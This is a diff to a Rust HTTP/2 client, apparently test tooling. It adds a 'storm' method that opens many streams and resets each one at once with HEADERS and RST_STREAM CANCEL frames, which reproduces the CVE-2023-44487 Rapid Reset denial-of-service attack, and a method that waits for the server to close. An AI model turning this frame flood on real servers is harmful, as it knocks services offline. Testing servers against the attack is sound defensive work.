@@ -153,6 +153,29 @@ impl RawHttp2 {
     }
 }
 
+impl RawHttp2 {
+    /// Begins `count` requests and resets each at once (CVE-2023-44487).
+    pub async fn storm(&mut self, count: u32) {
+        let block = [&[0x82, 0x86, 0x84, 0x41, 1][..], b"a"].concat(); // GET, http, /, :authority a
+        let mut frames = Vec::new();
+        for stream in (0..count).map(|turn| 2 * turn + 1) {
+            frames.extend([0, 0, u8::try_from(block.len()).unwrap(), HEADERS, 5]);
+            frames.extend(stream.to_be_bytes());
+            frames.extend(&block);
+            frames.extend([0, 0, 4, RST_STREAM, 0]);
+            frames.extend(stream.to_be_bytes());
+            frames.extend(8u32.to_be_bytes()); // CANCEL
+        }
+        // The other end may have enough before the last.
+        self.0.try_send(frames).await.ok();
+    }
+
+    /// Waits until the other end has closed the connection.
+    pub async fn gone(mut self) {
+        self.0.rest().await;
+    }
+}
+
 impl RawFrame {
     /// The status of a response's head, where it stands in HPACK's static table (RFC 7541 appendix A).
     pub fn status(&self) -> Option<u16> {
